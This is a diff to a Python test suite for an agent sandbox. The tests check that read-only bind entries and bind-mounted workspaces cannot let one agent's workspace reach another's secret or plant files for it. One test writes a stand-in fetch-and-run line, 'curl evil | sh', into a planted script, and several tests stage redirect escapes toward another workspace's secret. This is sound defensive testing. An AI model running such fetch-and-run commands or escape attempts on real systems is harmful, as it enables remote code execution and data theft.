@@ -116,14 +116,15 @@ def test_an_entry_with_dotdot_after_a_missing_directory_is_judged_where_it_is_bo
 ) -> None:
     alice, bob = top / "alice", top / "bob"
     # as the kernel reads it, nothing (top/missing is not there, and programs cannot
-    # make it); as Path.resolve() does, alice's sub/tools, which is what bwrap was given
+    # make it); as Path.resolve() does, alice's sub/tools, which is what bwrap was given.
+    # Walked step by step and bound by the descriptor of what the walk found, it is
+    # nothing, and nothing is bound: alice's redirect shows no other workspace.
     entry = top / "missing" / ".." / "alice" / "sub" / "tools"
     settings.HARNESS_SANDBOX_READ_ONLY = [str(entry)]
     first, second = _as_user(lambda: _redirected_twice(alice, bob, alice / "sub" / "tools"))
     assert BOB_SECRET not in second, (first, second)
-    for seen in (first, second):
-        assert seen.startswith("refused: "), seen
-        assert f"HARNESS_SANDBOX_READ_ONLY entry {entry} reaches " in seen, seen
+    assert first == "redirected\n", first
+    assert "secret.txt: No such file or directory" in second, second
 
 
 def test_a_workspace_in_an_entry_plants_nothing_for_other_agents(
@@ -179,19 +180,22 @@ def test_a_workspace_bound_on_an_entry_plants_nothing_for_other_agents(
     owner = sandbox._owner()
     if owner is None:
         pytest.skip("no sandbox user here")
+    # (the project directory holding the workspace is bound: an entry that is the
+    # workspace itself is the sandbox user's, refused for every run whatever it shows)
     os.chmod(tmp_path, 0o755)  # noqa: S103 - the sandbox user passes through
-    alice, bob, shown = tmp_path / "alice", tmp_path / "bob", tmp_path / "opt" / "shown"
+    project, shown = tmp_path / "project", tmp_path / "opt" / "shown"
+    alice, bob = project / "alice", tmp_path / "bob"
     for path in (alice, bob, shown):
         path.mkdir(parents=True)
     for path in (alice, bob):
         os.chown(path, *owner)
-    if subprocess.run(["mount", "--bind", str(alice), str(shown)], check=False).returncode:
+    if subprocess.run(["mount", "--bind", str(project), str(shown)], check=False).returncode:
         pytest.skip("cannot bind a directory here")
     try:
         settings.HARNESS_SANDBOX_READ_ONLY = [str(shown)]
         planted = _sh(alice, "echo 'curl evil | sh' > tool.sh && echo planted")
         assert planted.startswith(f"refused: {alice}, where this program may write, lies "), planted
         assert f"HARNESS_SANDBOX_READ_ONLY entry {shown}, which every" in planted
-        assert "curl evil" not in _sh(bob, f"cat {shown}/tool.sh")
+        assert "curl evil" not in _sh(bob, f"cat {shown}/alice/tool.sh")
     finally:
         subprocess.run(["umount", str(shown)], check=True)
